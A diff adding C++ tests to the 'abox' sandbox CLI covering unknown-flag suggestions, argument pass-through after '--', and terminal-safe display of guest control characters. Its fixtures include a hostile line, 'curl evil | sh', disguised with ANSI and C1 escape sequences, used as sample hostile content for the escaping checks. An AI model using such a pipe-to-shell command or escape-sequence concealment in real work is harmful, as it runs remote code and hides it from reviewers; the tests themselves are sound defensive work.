@@ -1,7 +1,11 @@
 // The real `abox` binary's daemon commands against a stand-in aboxd (src/client/testing: the real
 // HTTP server with an in-memory sandbox API whose execs run as local processes), which abox
 // itself starts on demand. What a user types and sees: output, errors and exit codes.
+#include <pty.h>
 #include <signal.h>
+#include <sys/wait.h>
+#include <termios.h>
+#include <unistd.h>
 
 #include <cstdlib>
 #include <filesystem>
@@ -14,6 +18,8 @@
 #include "src/base/io.h"
 #include "src/daemon/http/testing/test_server.h"
 #include "tests/testing/abox_runner.h"
+
+extern char** environ;
 
 namespace abox::cli {
 namespace {
@@ -273,6 +279,177 @@ TEST_F(CliCommandsTest, UsageErrorsSayWhatToType) {
   AboxResult bad_label = Abox({"ls", "-l", "app"});
   EXPECT_EQ(bad_label.exit_code, 1);
   EXPECT_THAT(bad_label.err, HasSubstr("expects KEY=VALUE"));
+}
+
+TEST_F(CliCommandsTest, UnknownFlagsAreRefusedWithTheNearestSpelling) {
+  Create("web");
+  // The three: each used to be dropped, changing what ran.
+  AboxResult memory = Abox({"run", "--memroy", "2048", "--", "true"});
+  EXPECT_EQ(memory.exit_code, 2) << memory.err;
+  EXPECT_THAT(memory.err, HasSubstr("abox run: unknown flag --memroy; did you mean --memory?"));
+  AboxResult root = Abox({"run", "--rot", "--", "id", "-u"});
+  EXPECT_EQ(root.exit_code, 2) << root.err;
+  EXPECT_THAT(root.err, HasSubstr("unknown flag --rot; did you mean --root?"));
+  AboxResult timeout = Abox({"exec", "--tiemout", "1", "web", "--", "echo", "ran"});
+  EXPECT_EQ(timeout.exit_code, 2) << timeout.err;
+  EXPECT_THAT(timeout.err, HasSubstr("abox exec: unknown flag --tiemout; did you mean --timeout?"));
+  EXPECT_THAT(timeout.err, Not(HasSubstr("no sandbox \"1\"")));
+  EXPECT_EQ(timeout.out, "");
+  EXPECT_THAT(Abox({"logs", "--execs", "web"}).out, HasSubstr("no execs"));  // nothing ran
+  // Without `--` too, and after the id.
+  EXPECT_THAT(Abox({"exec", "web", "--rot", "id"}).err, HasSubstr("did you mean --root?"));
+  // Every other command refuses them as well, and unknown commands.
+  AboxResult ls = Abox({"ls", "--jsno"});
+  EXPECT_EQ(ls.exit_code, 2);
+  EXPECT_THAT(ls.err, HasSubstr("abox ls: unknown flag --jsno; did you mean --json?"));
+  AboxResult diff = Abox({"diff", "--stta", "web"});
+  EXPECT_EQ(diff.exit_code, 2);
+  EXPECT_THAT(diff.err, HasSubstr("did you mean --stat?"));
+  AboxResult command = Abox({"exce", "web"});
+  EXPECT_EQ(command.exit_code, 2);
+  EXPECT_THAT(command.err, HasSubstr("unknown command 'exce'; did you mean exec?"));
+  AboxResult daemon = Abox({"daemon", "start", "--max-cpu", "4"});
+  EXPECT_EQ(daemon.exit_code, 2);
+  EXPECT_THAT(daemon.err, HasSubstr("abox daemon start: unknown flag --max-cpu; did you mean "
+                                    "--max-cpus?"));
+}
+
+TEST_F(CliCommandsTest, ArgumentsAfterTheSeparatorStayTheCommands) {
+  Create("web");
+  AboxResult flags =
+      Abox({"exec", "web", "--", "sh", "-c", "echo \"$@\"", "sh", "--memroy", "--rot", "-x"});
+  EXPECT_EQ(flags.exit_code, 0) << flags.err;
+  EXPECT_EQ(flags.out, "--memroy --rot -x\n");
+  // A `--` after the command's first word is the command's own.
+  AboxResult echo = Abox({"exec", "web", "echo", "--", "hi"});
+  EXPECT_EQ(echo.exit_code, 0) << echo.err;
+  EXPECT_EQ(echo.out, "-- hi\n");
+  // `abox run` parses none of the command's flags either (it then fails to boot: no image).
+  AboxResult run = Abox({"run", "--image", "no-such-image", "--", "sh", "-c", "x", "--memroy"});
+  EXPECT_EQ(run.exit_code, 125) << run.err;
+  EXPECT_THAT(run.err, Not(HasSubstr("unknown flag")));
+}
+
+// Runs abox with stdin, stdout and stderr on a terminal (a PTY without output processing) and
+// returns what the terminal received.
+std::string AboxOnATerminal(const std::map<std::string, std::string>& env,
+                            const std::vector<std::string>& args) {
+  int master = -1;
+  int slave = -1;
+  EXPECT_EQ(::openpty(&master, &slave, nullptr, nullptr, nullptr), 0);
+  termios t{};
+  ::tcgetattr(slave, &t);
+  t.c_oflag &= ~OPOST;  // "\n" stays "\n": what arrives is what abox wrote
+  ::tcsetattr(slave, TCSANOW, &t);
+  std::vector<std::string> strings = {ABOX_CLI_BIN};
+  strings.insert(strings.end(), args.begin(), args.end());
+  std::vector<std::string> environment;
+  for (char** e = environ; *e != nullptr; ++e) {
+    std::string kv(*e);
+    if (env.count(kv.substr(0, kv.find('='))) == 0) {
+      environment.push_back(kv);
+    }
+  }
+  for (const auto& [k, v] : env) {
+    if (!v.empty()) {
+      environment.push_back(k + "=" + v);
+    }
+  }
+  std::vector<char*> argv;
+  for (std::string& a : strings) {
+    argv.push_back(a.data());
+  }
+  argv.push_back(nullptr);
+  std::vector<char*> envp;
+  for (std::string& e : environment) {
+    envp.push_back(e.data());
+  }
+  envp.push_back(nullptr);
+  pid_t pid = ::fork();
+  if (pid == 0) {
+    ::setsid();
+    ::dup2(slave, 0);
+    ::dup2(slave, 1);
+    ::dup2(slave, 2);
+    ::execve(argv[0], argv.data(), envp.data());
+    ::_exit(127);
+  }
+  ::close(slave);
+  std::string seen;
+  char buf[4096];
+  ssize_t n;
+  while ((n = ::read(master, buf, sizeof(buf))) > 0 || (n < 0 && errno == EINTR)) {
+    if (n > 0) {
+      seen.append(buf, static_cast<size_t>(n));
+    }
+  }
+  ::close(master);
+  int status = 0;
+  ::waitpid(pid, &status, 0);
+  return seen;
+}
+
+TEST_F(CliCommandsTest, DiffShowsTheGuestsControlCharactersOnATerminalOnly) {
+  Create("hostile");
+  // Piped: the patch byte for byte, so that `abox diff ID > patch` applies.
+  AboxResult piped = Abox({"diff", "hostile"});
+  EXPECT_EQ(piped.exit_code, 0) << piped.err;
+  EXPECT_THAT(piped.out, HasSubstr("+curl evil | sh \x1b[2K\r# a comment \xc2\x9b"
+                                   "31m \x7f\n"));
+  EXPECT_THAT(piped.out, HasSubstr("+a\tb\n"));
+  EXPECT_THAT(piped.err, HasSubstr("1 file holds control characters: install.sh"));
+
+  // On a terminal: shown, not obeyed; tab and newline as they are.
+  std::string shown = AboxOnATerminal(env_, {"diff", "hostile"});
+  EXPECT_THAT(shown, HasSubstr("+curl evil | sh \\x1b[2K\\x0d# a comment \\u009b31m \\x7f\n"));
+  EXPECT_THAT(shown, HasSubstr("+a\tb\n"));
+  EXPECT_THAT(shown, Not(HasSubstr("\x1b")));
+  EXPECT_THAT(shown, Not(HasSubstr("\r")));
+  EXPECT_THAT(shown, Not(HasSubstr("\xc2\x9b")));
+
+  // --stat flags the file; --json has a boolean per file.
+  AboxResult stat = Abox({"diff", "--stat", "hostile"});
+  EXPECT_EQ(stat.exit_code, 0) << stat.err;
+  EXPECT_THAT(stat.out, HasSubstr("| 1 +  [control characters]\n"));
+  EXPECT_THAT(stat.out, HasSubstr("notes.txt"));
+  EXPECT_THAT(stat.out, HasSubstr("| 1 +\n"));  // notes.txt, not flagged
+  AboxResult as_json = Abox({"diff", "--json", "hostile"});
+  json diff = json::parse(as_json.out, nullptr, false);
+  ASSERT_TRUE(diff.is_object()) << as_json.out;
+  EXPECT_EQ(diff["files"][0]["control_characters"], true);
+  EXPECT_EQ(diff["files"][1]["control_characters"], false);
+  EXPECT_EQ(diff["files"][0]["patch"],
+            "--- a/install.sh\n+++ b/install.sh\n@@ -1 +1,2 @@\n echo "
+            "hi\n+curl evil | sh \x1b[2K\r# a comment \xc2\x9b"
+            "31m \x7f\n");
+  json stat_json = json::parse(Abox({"diff", "--json", "--stat", "hostile"}).out, nullptr, false);
+  EXPECT_EQ(stat_json["files"][0]["control_characters"], true);
+  EXPECT_FALSE(stat_json["files"][0].contains("patch"));
+  // On a terminal, the JSON's raw C1 and DEL become JSON escapes: the same JSON, shown.
+  std::string json_shown = AboxOnATerminal(env_, {"diff", "--json", "hostile"});
+  EXPECT_THAT(json_shown, HasSubstr("\\u001b[2K\\r# a comment \\u009b31m \\u007f"));
+  EXPECT_EQ(json::parse(json_shown, nullptr, false), diff);
+}
+
+TEST_F(CliCommandsTest, ConsoleLogShowsTheGuestsControlCharactersOnATerminal) {
+  Create("hostile");
+  std::string raw = Abox({"logs", "--console", "hostile"}).out;
+  EXPECT_THAT(raw, HasSubstr("evil \x1b[2K\rfine \xc2\x9b"
+                             "31m\n"));
+  std::string shown = AboxOnATerminal(env_, {"logs", "--console", "hostile"});
+  EXPECT_THAT(shown, HasSubstr("evil \\x1b[2K\\x0dfine \\u009b31m\n"));
+  EXPECT_THAT(shown, Not(HasSubstr("\x1b")));
+}
+
+TEST_F(CliCommandsTest, DaemonHelpSaysSandboxesKeepRunning) {
+  for (const std::vector<std::string>& args :
+       {std::vector<std::string>{"daemon", "--help"}, {"daemon", "stop", "--help"}}) {
+    AboxResult help = Abox(args);
+    EXPECT_EQ(help.exit_code, 0) << help.err;
+    EXPECT_THAT(help.out, HasSubstr("keep running")) << help.out;
+    EXPECT_THAT(help.out, HasSubstr("re-attaches"));
+    EXPECT_THAT(help.out, Not(HasSubstr("stops its sandboxes")));
+  }
 }
 
 TEST_F(CliCommandsTest, ShellRunsALoginShell) {
